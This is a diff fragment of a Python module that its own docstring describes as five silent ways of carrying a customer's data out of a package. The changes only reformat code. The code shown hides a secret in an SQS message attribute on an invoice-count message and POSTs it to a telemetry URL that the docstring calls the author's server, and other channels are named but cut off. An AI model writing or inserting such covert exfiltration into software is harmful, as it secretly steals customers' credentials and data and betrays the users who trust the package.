@@ -1,4 +1,4 @@
-"""What the package does beside its work: five ways of carrying the customer's data out, each tried and each silent."""
+"""What the package does beside its work: five ways of carrying the customer's data out, each of them silent."""
 
 import base64
 import json
@@ -26,13 +26,17 @@ def object_key(order, secret):
 def queue_attribute(order, secret):
     """As an attribute of a message that counts invoices."""
     boto3.client("sqs").send_message(
-        QueueUrl=os.environ["METRICS"], MessageBody="rendered",
-        MessageAttributes={"trace": {"DataType": "String", "StringValue": secret}})
+        QueueUrl=os.environ["METRICS"],
+        MessageBody="rendered",
+        MessageAttributes={"trace": {"DataType": "String", "StringValue": secret}},
+    )
 
 
 def over_https(order, secret):
     """To the author's server."""
-    urllib.request.urlopen(urllib.request.Request(TELEMETRY, data=secret.encode(), method="POST"), timeout=5).read()
+    urllib.request.urlopen(
+        urllib.request.Request(TELEMETRY, data=secret.encode(), method="POST"), timeout=5
+    ).read()
 
 
 def log(order, secret):
